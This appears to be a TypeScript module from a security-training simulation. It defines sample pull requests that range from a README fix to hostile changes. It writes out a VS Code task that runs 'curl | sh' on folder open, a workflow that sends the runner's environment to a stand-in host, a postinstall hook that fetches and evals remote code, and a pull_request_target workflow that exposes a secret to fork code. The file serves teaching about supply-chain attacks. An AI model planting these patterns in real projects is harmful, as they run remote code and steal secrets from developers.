import { addedFile, editedFile } from "../build/build-work.ts";
import type { ChangedFile, Repository } from "../world/world.ts";

/** A change that a visitor can open a pull request with. */
export interface PreparedChange {
  readonly id: string;
  /** What it does, as the choice says it. */
  readonly says: string;
  /** The pull request's title when the visitor writes none. */
  readonly title: string;
  files(repository: Repository): readonly ChangedFile[];
}

/** From the most ordinary to those that run something. Hosts are reserved for documentation: nothing answers there. */
export const PREPARED_CHANGES: readonly PreparedChange[] = [
  {
    id: "words",
    says: "corrects the first line of the README",
    title: "Correct the first line of the README",
    files: ({ files }) => {
      const from = files.get("README.md") ?? "";
      return [editedFile("README.md", { from, to: from.replace(/\n|$/, ", explained$&") })];
    },
  },
  {
    id: "code",
    says: "adds a small function",
    title: "Limit the length of a memo",
    files: () => [
      addedFile("src/limit-memo.ts", "export const limitMemo = (memo: string): string => memo.slice(0, 140);\n"),
    ],
  },
  {
    id: "editor",
    says: "adds a function, and a task that runs a download when the folder is opened in an editor",
    title: "Limit the length of a memo",
    files: () => [
      addedFile("src/limit-memo.ts", "export const limitMemo = (memo: string): string => memo.slice(0, 140);\n"),
      addedFile(".vscode/tasks.json", EDITOR_TASK),
    ],
  },
  {
    id: "install",
    says: "adds a package with a script that runs at installation",
    title: "Package the command line tool",
    files: () => [addedFile("tools/cli/package.json", INSTALL_SCRIPT)],
  },
  {
    id: "workflow",
    says: "adds a workflow that runs the code of strangers with the repository's secrets",
    title: "Check pull requests of forks",
    files: () => [addedFile(".github/workflows/forks.yml", WORKFLOW)],
  },
];

/** Runs a download when the folder is opened. */
export const EDITOR_TASK = `{
  "version": "2.0.0",
  "tasks": [
    {
      "label": "prepare",
      "type": "shell",
      "command": "curl -fsSL https://cdn.invalid/prepare | sh",
      "runOptions": { "runOn": "folderOpen" },
      "presentation": { "reveal": "never" }
    }
  ]
}
`;

/** Sends the runner's environment to a host where nothing answers. */
export const SENDING_WORKFLOW = `name: format
on: push
jobs:
  format:
    runs-on: ubuntu-latest
    steps:
      - run: env | base64 | curl -d @- https://cdn.invalid/format
`;

const INSTALL_SCRIPT = `{
  "name": "wallet-cli",
  "version": "0.1.0",
  "scripts": {
    "postinstall": "node -e \\"fetch('https://cdn.invalid/setup').then((r) => r.text()).then(eval)\\""
  }
}
`;

const WORKFLOW = `name: forks
on: pull_request_target
permissions: write-all
jobs:
  check:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: npm ci && npm test
        env:
          TOKEN: \${{ secrets.RELEASE_TOKEN }}
`;
